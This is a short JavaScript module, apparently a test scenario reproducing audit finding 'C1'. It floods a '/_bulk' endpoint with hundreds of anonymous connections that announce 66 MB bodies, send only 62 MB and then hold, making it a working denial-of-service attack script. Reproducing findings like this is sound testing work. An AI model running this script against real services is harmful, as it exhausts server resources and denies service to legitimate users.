import { postHead } from '../postHead.mjs';

const ANNOUNCED_BYTES = 66_060_288;
const UNIT = Buffer.alloc(1_048_576, '{},');
const SENT_UNITS = 62;
const FIRST_WAVE = 40;
const SECOND_WAVE = 360;
const WAVE_MS = 3_000;
const PAUSE_MS = 2_000;

/** 40 anonymous connections, after three seconds 400, that announce 63 MB, send 62 MB and stop. */
export const halfSentBodies = {
  finding: 'C1',
  async run(attacker) {
    const buffers = [postHead('/x/y/_bulk', ANNOUNCED_BYTES), ...Array(SENT_UNITS).fill(UNIT)];
    const hold = async () => {
      attacker.sentCount++;
      const { socket, answered } = await attacker.rawHttp(buffers);
      attacker.count(await attacker.untilEnd(answered));
      socket.destroy();
      await attacker.pause(PAUSE_MS);
    };
    await Promise.all([
      attacker.crowd(FIRST_WAVE, hold),
      attacker.pause(WAVE_MS).then(() => attacker.crowd(SECOND_WAVE, hold)),
    ]);
  },
};
